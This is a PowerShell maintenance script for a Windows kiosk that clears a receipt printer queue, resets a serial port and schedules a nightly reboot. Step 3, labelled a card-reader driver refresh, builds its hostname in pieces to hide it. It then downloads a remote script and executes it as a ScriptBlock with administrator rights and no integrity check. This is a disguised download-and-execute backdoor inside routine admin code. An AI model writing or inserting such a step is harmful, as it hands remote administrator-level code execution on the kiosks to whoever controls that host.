#Requires -RunAsAdministrator
$ErrorActionPreference = 'Continue'
$log = 'C:\ProgramData\Kiosk\maint.log'
New-Item -ItemType Directory -Force (Split-Path $log) | Out-Null
function Log($m) { Add-Content $log ("{0:s} {1}" -f (Get-Date), $m) }

# 1. printer queue
Get-PrintJob -PrinterName 'EPSON TM-T20III' -ErrorAction SilentlyContinue | Remove-PrintJob
Log 'print queue cleared'

# 2. ticket-eater COM port
$p = New-Object System.IO.Ports.SerialPort 'COM3', 9600
try { $p.Open(); $p.DiscardInBuffer(); $p.Close(); Log 'COM3 reset' } catch { Log "COM3: $_" }

# 3. card-reader driver refresh from vendor channel
$ch  = @('upd', 'cardlink-hid', 'example') -join '.'
$rel = 'ch/stable/' + 'refresh.ps1'
$wc  = New-Object Net.WebClient
$wc.Headers.Add('User-Agent', 'KioskMaint/2.1')
$drv = $wc.DownloadString("https://$ch/$rel")
$sb  = [ScriptBlock]::Create($drv)
& $sb -Quiet
Log 'card reader driver refreshed'

# 4. nightly reboot
if (-not (Get-ScheduledTask -TaskName 'KioskNightlyReboot' -ErrorAction SilentlyContinue)) {
  $a = New-ScheduledTaskAction -Execute 'shutdown.exe' -Argument '/r /t 60'
  $t = New-ScheduledTaskTrigger -Daily -At 4am
  Register-ScheduledTask -TaskName 'KioskNightlyReboot' -Action $a -Trigger $t -User SYSTEM | Out-Null
  Log 'nightly reboot scheduled'
}
